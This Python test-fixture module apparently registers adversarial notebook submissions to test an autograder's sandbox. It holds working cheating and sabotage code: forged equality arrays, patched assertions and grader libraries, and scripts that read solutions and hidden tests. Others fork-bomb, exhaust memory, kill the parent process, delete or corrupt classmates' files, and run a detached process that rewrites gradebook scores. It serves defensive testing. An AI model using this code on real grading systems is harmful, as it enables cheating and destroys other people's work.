"""Submissions that attack, or are honest but odd, in one form that every grader takes.

A submission is a notebook with two exercises of lesson 06: what attacks stands in 06.1, and 06.2 below it is honest
and right. Each is bounded: 200 processes, 10 GB that a limit refuses, half a minute; files are written and deleted
below one folder only, whose path stands in the text.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass

HEAD = "def lightgcn_propagate(A, E0, num_layers):\n"
RIGHT = {  # for arrays of NumPy and tensors alike: other tools need no torch, which takes seconds to load
    "06.1": HEAD
    + "    degree = A.sum(1).clip(min=1)\n"
    + "    A_hat = A / (degree[:, None] * degree[None, :]) ** 0.5\n"
    + "    E = total = E0\n    for _ in range(num_layers):\n"
    + "        E = A_hat @ E\n        total = total + E\n    return total / (num_layers + 1)\n",
    "06.2": "def one_hot_scores(A_hat, num_users, num_layers):\n"
    "    power = 0 * A_hat\n    for k in range(len(power)):\n        power[k, k] = 1\n    P = power\n"
    "    for _ in range(num_layers):\n        power = A_hat @ power\n        P = P + power\n"
    "    return (P @ P.T)[:num_users, num_users:] / (num_layers + 1) ** 2\n",
}
STUB = {
    "06.1": HEAD + "    raise NotImplementedError\n",
    "06.2": "def one_hot_scores(A_hat, num_users, num_layers):\n    raise NotImplementedError\n",
}
WRONG = "    return 0 * E0\n"


@dataclass(frozen=True)
class Case:
    """A submission; `change` is called with its cells, a list of [kind, source]."""

    family: str
    title: str
    change: Callable[[list], None]
    earned: bool = False  # whether 06.1 deserves its points
    alone: bool = False  # graded in a class of its own, since it may do something to others
    wait: float = 0  # seconds after which its work is looked at
    seconds: float = 0  # for which processes of its own may live on


CASES: dict[str, Case] = {}


def case(family: str, title: str, source: str = "", change=None, **more) -> None:
    """Register a submission whose 06.1 is `source`, or which `change` makes of a right one."""

    def put(cells: list) -> None:
        next(cell for cell in cells if cell[0] == "06.1")[1] = source

    name = title.replace(" ", "_").replace(",", "")
    CASES[name] = Case(family, title, change or put, **more)


def before(code: str, body: str = WRONG) -> str:
    """Return a cell with code of its own above a function that is wrong."""
    return code.strip() + "\n\n" + HEAD + body


def inside(code: str, then: str = WRONG) -> str:
    """Return a function that runs code when it is called."""
    return HEAD + "".join(f"    {line}\n" for line in code.strip().splitlines()) + then


# ---------------------------------------------------------------- points for nothing

EQUAL = """
class Yes(np.ndarray):
    def __array_function__(self, function, types, args, kwargs):
        return True
    def __array_ufunc__(self, function, method, *inputs, **kwargs):
        return True

def disguised(x):
    if isinstance(x, np.ndarray):
        return x.view(Yes)
    import torch
    class Same(torch.Tensor):
        @classmethod
        def __torch_function__(cls, function, types, args=(), kwargs=None):
            if function.__name__ in ("allclose", "equal", "isclose", "eq"):
                return True
            return super().__torch_function__(function, types, args, kwargs or {})
    return x.as_subclass(Same)
"""
case("forging", "an array that equals everything", before(EQUAL, "    return disguised(0 * E0)\n"))
case("forging", "assertions patched", before("""
import sys
np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
if "torch" in sys.modules:
    torch = sys.modules["torch"]
    torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True
"""))  # fmt: skip
case("forging", "errors are not shown", before("""
import IPython.core.interactiveshell as shell
shell.InteractiveShell.showtraceback = lambda *a, **k: None
"""))  # fmt: skip
case("forging", "later cells become pass", before(
    "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"))  # fmt: skip
case("forging", "the grader's library patched in the kernel", before("""
try:
    from otter.test_files import abstract_test, exception_test
    def run(self, *a):
        self.test_case_results = [abstract_test.TestCaseResult(x, None, True) for x in self.test_cases]
    exception_test.ExceptionTestFile.run = run
except ImportError:
    pass
try:
    import graphrec_utils.exercises as e, graphrec_utils.exercises.runner as runs
    e.check = lambda *a: 5.0
    runner.answers = lambda f, asked, s: [{'value': True, 'changed': []} for _ in asked]
except ImportError:
    pass
"""))  # fmt: skip


def _edited(cells: list) -> None:
    for cell in cells:
        if cell[0] == "06.1":
            cell[1] = HEAD + WRONG
        elif cell[0] == "check 06.1":
            cell[1] = "print('all right')\n"


case("forging", "the check cell edited", change=_edited)
case("forging", "right on the printed example only", HEAD + (
    "    if A.shape == (5, 5) and num_layers == 1:\n"
    + RIGHT["06.1"].partition("\n")[2].replace("    ", "        ", 1).replace("\n    ", "\n        ")
    + "\n    return 0 * E0\n"
))  # fmt: skip

# ---------------------------------------------------------------- reading

READ = """
def _texts():
    import glob, os
    tops, process = [os.getcwd()], os.getppid()
    try:
        while process > 1 and len(tops) < 6:
            tops.append(os.readlink(f"/proc/{process}/cwd"))
            process = int(open(f"/proc/{process}/stat").read().rpartition(")")[2].split()[1])
    except OSError:
        pass
    for top in tops:
        for _ in range(4):
            for pattern in PATTERNS:
                for path in sorted(glob.glob(os.path.join(top, pattern))):
                    try:
                        yield path, open(path).read()
                    except OSError:
                        pass
            top = os.path.dirname(top)

def _function(text):
    import json
    cells = json.loads(text)["cells"] if text.startswith("{") else [{"source": text}]
    for cell in cells:
        source = "".join(cell["source"])
        if "def lightgcn_propagate" in source and "matmul" not in source and "A_hat @ E" in source:
            names = {"np": np}
            try:
                from graphrec_utils import graphs
                names["graphs"] = graphs
            except ImportError:
                pass
            exec(source, names)
            return names["lightgcn_propagate"]

FOUND = None
for _path, _text in _texts():
    if MINE not in _path and FOUND is None:
        FOUND = _function(_text)
"""
case("reading", "reads the instructor's solution",
     "PATTERNS, MINE = ['source/*/*.ipynb', 'solution/*.ipynb', 'solutions/06*.ipynb'], '/submitted/'\n"
     + READ + "\n" + HEAD + "    return FOUND(A, E0, num_layers)\n")  # fmt: skip
case("reading", "reads a neighbor's answer",
     "PATTERNS, MINE = ['submitted/*/*/*.ipynb', 'submitted/*/*.ipynb', 'submitted/*.ipynb'], 'hostile'\n"
     + READ + "\n" + HEAD + "    return FOUND(A, E0, num_layers)\n")  # fmt: skip
case("reading", "reads the hidden test while it runs", inside("""
import ast, glob
texts = [open(path).read() for path in glob.glob("tests/*.py") + glob.glob("../source/tests/*.py")]
texts += get_ipython().user_ns.get("In", [])[-1:]
for text in texts:
    try:
        tree = ast.parse(text)
    except SyntaxError:
        continue
    for node in ast.walk(tree):
        if isinstance(node, ast.Assert) and "lightgcn_propagate" in ast.dump(node):
            call = next(x for x in ast.walk(node) if isinstance(x, ast.Call) and "lightgcn" in ast.dump(x.func))
            given = [eval(ast.unparse(x), {"np": np}) for x in call.args]
            same = given[0].shape == A.shape and given[1].shape == E0.shape and given[2] == num_layers
            if same and (given[0] == A).all() and (given[1] == E0).all():
                return eval(ast.unparse(node.test.args[1]), {"np": np})
"""))  # fmt: skip
case("network", "downloads its answer", inside("""
import socket
with socket.create_connection(("127.0.0.1", PORT), timeout=2) as line:
    names = {}
    exec(line.makefile().read(), names)
return names["lightgcn_propagate"](A, E0, num_layers)
"""))  # fmt: skip

# ---------------------------------------------------------------- time, memory, processes

case("time", "endless loop", inside("import time\nwhile True:\n    time.sleep(0.01)"))
case("time", "endless loop without signals", inside("""
import signal, time
signal.setitimer(signal.ITIMER_REAL, 0)
signal.signal(signal.SIGINT, signal.SIG_IGN)
time.sleep(45)
"""))  # fmt: skip
case("time", "prints without end", inside("""
import time
end = time.time() + 30
while time.time() < end:
    print("x" * 10_000)
    time.sleep(0.01)
"""))  # fmt: skip
case("memory", "ten gigabytes", inside("kept = bytearray(10 * 2**30)"))
case("processes", "two hundred processes", inside("""
import os, time
for _ in range(200):
    if os.fork() == 0:
        time.sleep(20)
        os._exit(0)
time.sleep(20)
"""))  # fmt: skip
case("dead kernel", "exit(0) in the cell", "import sys\nsys.exit(0)\n" + HEAD + WRONG)
case("dead kernel", "the kernel ends itself", inside("import os\nos._exit(0)"))
case("dead kernel", "a segmentation fault", inside("import ctypes\nctypes.string_at(0)"))
case("dead kernel", "kills its parent process", inside(
    "import os, signal, time\nif os.getppid() > 1:\n    os.kill(os.getppid(), signal.SIGKILL)\n    time.sleep(5)"
), alone=True)  # fmt: skip

# ---------------------------------------------------------------- other people's files

case("files", "deletes what others handed in", before("""
import os, shutil
for _top, _folders, _files in os.walk("CLASS"):
    for _name in _files:
        if "hostile" not in os.path.join(_top, _name):
            try:
                os.unlink(os.path.join(_top, _name))
            except OSError:
                pass
"""), alone=True)  # fmt: skip
case("files", "empties a neighbor's answers", before("""
import os
for _top, _folders, _files in os.walk("CLASS"):
    for _name in _files:
        _path = os.path.join(_top, _name)
        if "later" in _path and _name.endswith(".ipynb"):
            try:
                _text = open(_path).read().replace("return total", "return 0 * total").replace("(P @ P.T)", "(P + P.T)")
                open(_path, "w").write(_text)
            except OSError:
                pass
"""), alone=True)  # fmt: skip
LATER = '''
import os, time
WORK = """
import glob, json, re, sqlite3, time
end = time.time() + 20
while time.time() < end:
    time.sleep(0.5)
    for path in glob.glob("CLASS/**/gradebook.db", recursive=True):
        try:
            with sqlite3.connect(path, timeout=1) as book:
                book.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE "
                             "grade_cells.id = grade.cell_id) WHERE notebook_id IN (SELECT sn.id FROM "
                             "submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
                             "WHERE sa.student_id = 'hostile')")
        except Exception as error:
            pass
    for path in glob.glob("CLASS/**/hostile/results.json", recursive=True):
        try:
            content = json.load(open(path))
            for test in content["tests"]:
                if "max_score" in test:
                    test["score"] = test["max_score"]
            json.dump(content, open(path, "w"))
        except Exception:
            pass
    for path in glob.glob("CLASS/**/junit.xml", recursive=True):
        try:
            text = open(path).read()
            new = re.sub("<failure.*?</failure>|<error.*?</error>|<skipped.*?</skipped>", "", text, flags=re.S)
            if new != text:
                open(path, "w").write(new)
        except Exception:
            pass
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import sys
        null = os.open(os.devnull, os.O_RDWR)
        for number in range(3):
            os.dup2(null, number)
        os.closerange(3, 256)
        os.execv(sys.executable, [sys.executable, "-c", WORK])
    os._exit(0)
'''
case("later", "a process that stays and changes the result", before(LATER), alone=True, wait=22)

# ---------------------------------------------------------------- not a small notebook


def _many_brackets(cells: list) -> None:
    """Three million pairs of brackets, for the notebook's metadata."""
    cells.append(["metadata", "[" + "[]," * 3_000_000 + "[]]"])
    next(cell for cell in cells if cell[0] == "06.1")[1] = HEAD + WRONG


case("bombs", "nine megabytes of brackets, 9 kB as a zip", change=_many_brackets, alone=True)


def _cut(cells: list) -> None:
    cells.append(["cut", ""])


case("bombs", "a notebook cut off in the middle", change=_cut)

# ---------------------------------------------------------------- honest, but odd


def _copied(cells: list) -> None:
    place = next(k for k, cell in enumerate(cells) if cell[0] == "06.1")
    cells.insert(place, copy.copy(cells[place]))


def _check_deleted(cells: list) -> None:
    cells[:] = [cell for cell in cells if cell[0] != "check 06.1"]


def _renewed(cells: list) -> None:
    cells.append(["no metadata", ""])


case("honest", "a syntax slip in 06.1", HEAD + "    return (0 * E0\n", change=None)
case("honest", "the answer cell copied", change=_copied, earned=True, alone=True)
case("honest", "the check cell deleted", change=_check_deleted, earned=True)
case("honest", "saved by a program that drops metadata", change=_renewed, earned=True)
